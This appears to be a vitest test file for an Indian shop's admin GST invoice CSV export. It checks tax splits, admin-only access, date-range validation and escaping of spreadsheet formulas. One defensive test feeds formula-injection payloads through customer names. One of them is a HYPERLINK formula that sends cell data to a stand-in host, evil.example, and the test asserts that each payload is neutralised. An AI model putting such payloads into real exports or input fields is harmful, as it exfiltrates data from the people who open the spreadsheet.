import { parse } from 'csv-parse/sync';
import { MongoClient } from 'mongodb';
import { beforeAll, describe, expect, it } from 'vitest';
import { call, setupTestDatabase } from '../setup/test-db';
import { makeCatalogue, makeProduct, defaultProducts } from '../fixtures/catalogue';
import { billingAddress, checkoutRequest, deliveryAddress, makeShopper } from '../fixtures/shoppers';
import { importCatalogue } from '@server/services/catalogue-import.service';
import { discountsRepository } from '@server/repositories/discounts.repository';
import { discountRules } from '../fixtures/discounts';
import { codOrderBody, makeAdmin, placeCodOrder } from '../fixtures/placed-orders';
import orderCheckout from '@functions/order_checkout';
import invoice from '@functions/invoice';
import adminAccounts from '@functions/admin_accounts';

const { uri } = setupTestDatabase();
let client: MongoClient;
let admin: Awaited<ReturnType<typeof makeShopper>>;
const bearer = (token: string) => ({ headers: { authorization: `Bearer ${token}` } });
/** Today in India, as the export's dates are. */
const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10);

beforeAll(async () => {
  client = await MongoClient.connect(uri);
  const catalogue = makeCatalogue([
    ...defaultProducts(),
    makeProduct({ slug: 'ledger-cuff', name: 'Ledger Cuff', price: 1299, stock: 100 }),
  ]);
  expect((await importCatalogue(catalogue, { overwriteStock: true })).ok).toBe(true);
  admin = await makeAdmin();
  return () => client.close();
});

/** A COD order of one cuff to Karnataka or Rajasthan (the test seller's state), with a code if given, invoiced at once. */
async function invoicedOrder(token: string, rajasthan: boolean, code?: { code: string; amount: number }): Promise<string> {
  const shippingInfo = rajasthan ? { ...deliveryAddress, city: 'Jaipur', state: 'Rajasthan', pincode: '302001' } : deliveryAddress;
  const { id } = await placeCodOrder(token, [{ slug: 'ledger-cuff', price: 1299 }], { shippingInfo, ...(code ? { discount: code } : {}) });
  expect((await call(invoice, `/api/invoice/${id}`, bearer(token))).status).toBe(200);
  return id;
}

describe('the accountant’s export', () => {
  it('lists every invoice of the days asked for, with its taxable value and CGST/SGST or IGST to the paisa', async () => {
    const shopper = await makeShopper();
    await discountsRepository.create('LEDGER100', discountRules({ kind: 'flat', value: 100 }), 'admin:test');
    const toKarnataka = await invoicedOrder(shopper.token, false);
    const inRajasthan = await invoicedOrder(shopper.token, true, { code: 'LEDGER100', amount: 100 });

    const r = await fetchCsv(`?from=${today}&to=${today}`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toBe(`attachment; filename="gst-invoices-${today}-to-${today}.csv"`);
    const rows = parse(r.text, { columns: true }) as Record<string, string>[];
    const mine = (id: string) => rows.find((row) => row['Order number'] === `HRM-${id.slice(-6).toUpperCase()}`)!;

    // ₹1,299 + ₹100 COD fee to Karnataka, another state than the seller's Rajasthan: IGST, each line split on its own.
    expect(mine(toKarnataka)).toMatchObject({
      'Place of supply': 'Karnataka',
      'State code': '29',
      Supply: 'Inter-state',
      HSN: '7113',
      'GST rate %': '3',
      'Value before discount': '1399.00',
      Discount: '0.00',
      'Taxable value': '1358.26',
      CGST: '0.00',
      SGST: '0.00',
      IGST: '40.74',
      'Total tax': '40.74',
      'Invoice value': '1399.00',
      Payment: 'Cash on delivery',
      'Order status': 'confirmed',
    });
    expect(mine(toKarnataka)['Invoice number']).toMatch(/^INV\/\d{4}-\d{2}\/\d{6}$/);
    // Within Rajasthan with ₹100 off the cuff: CGST = SGST on ₹1,199 (₹17.46 each) and on the ₹100 fee (₹1.46 each).
    expect(mine(inRajasthan)).toMatchObject({
      'Place of supply': 'Rajasthan',
      'State code': '08',
      Supply: 'Intra-state',
      'Value before discount': '1399.00',
      Discount: '100.00',
      'Taxable value': '1261.16',
      CGST: '18.92',
      SGST: '18.92',
      IGST: '0.00',
      'Total tax': '37.84',
      'Invoice value': '1299.00',
    });
    for (const row of rows) {
      const paise = (k: string) => Math.round(Number(row[k]) * 100);
      expect(paise('Taxable value') + paise('Total tax')).toBe(paise('Invoice value'));
      expect(paise('CGST') + paise('SGST') + paise('IGST')).toBe(paise('Total tax'));
    }
  });

  it('leaves out other days, is for admins only, and refuses dates that are not a range', async () => {
    const empty = await fetchCsv('?from=2020-04-01&to=2020-04-30');
    expect(parse(empty.text)).toEqual([
      expect.arrayContaining(['Invoice number', 'Taxable value', 'CGST', 'SGST', 'IGST', 'Place of supply']),
    ]);
    const shopper = await makeShopper();
    expect((await call(adminAccounts, `/api/admin/accounts?from=${today}&to=${today}`, bearer(shopper.token))).status).toBe(403);
    expect((await call(adminAccounts, `/api/admin/accounts?from=${today}&to=${today}`)).status).toBe(401);
    for (const [bad, message] of [
      ['?from=2026-11-30&to=2026-11-01', 'From must be on or before To'],
      ['?from=2026-02-30&to=2026-03-01', 'From must be a real date'],
      ['?from=0000-01-01&to=0000-01-02', 'From must be in the years 2000 to 2099'],
      ['?from=2024-01-01&to=2026-01-01', 'An export covers at most 366 days'],
      ['?from=yesterday&to=2026-01-01', 'From must be a date (YYYY-MM-DD)'],
    ]) {
      const r = await call(adminAccounts, `/api/admin/accounts${bad}`, bearer(admin.token));
      expect(r.status, bad).toBe(400);
      expect(r.body.message).toContain(message);
    }
  });
});

describe('formulas in the accountant’s export (issue #33: attacks that must fail)', () => {
  it('neutralises every text cell a spreadsheet would run as a formula, and leaves the amounts numbers', async () => {
    const shopper = await makeShopper();
    const names: [string, string][] = [
      ['=HYPERLINK("http://evil.example/?"&A1,"Click")', 'Shah'],
      ['+91', 'Rao'],
      ['-2+3', 'Iyer'],
      ['@SUM(1+1)', 'Das'],
    ];
    const ids: string[] = [];
    for (const [firstName, lastName] of names) {
      const body = { ...codOrderBody([{ slug: 'ledger-cuff', price: 1299 }]), billingInfo: { ...billingAddress, firstName, lastName } };
      const placed = await call(orderCheckout, '/api/orderCheck_out', checkoutRequest(body, shopper.token));
      expect(placed.status).toBe(201);
      ids.push(placed.body.order._id as string);
      expect((await call(invoice, `/api/invoice/${placed.body.order._id}`, bearer(shopper.token))).status).toBe(200);
    }
    const r = await fetchCsv(`?from=${today}&to=${today}`);
    expect(r.status).toBe(200);
    const rows = parse(r.text, { columns: true }) as Record<string, string>[];
    const customers = ids.map((id) => rows.find((row) => row['Order number'] === `HRM-${id.slice(-6).toUpperCase()}`)!['Customer']);
    expect(customers).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"Click") Shah`, "'+91 Rao", "'-2+3 Iyer", "'@SUM(1+1) Das"]);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) expect(cell, column).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
  });
});

/** The export as the admin's browser downloads it. */
async function fetchCsv(query: string): Promise<{ status: number; headers: Headers; text: string }> {
  const res = await adminAccounts(new Request(`http://localhost/api/admin/accounts${query}`, bearer(admin.token)));
  return { status: res.status, headers: res.headers, text: await res.text() };
}
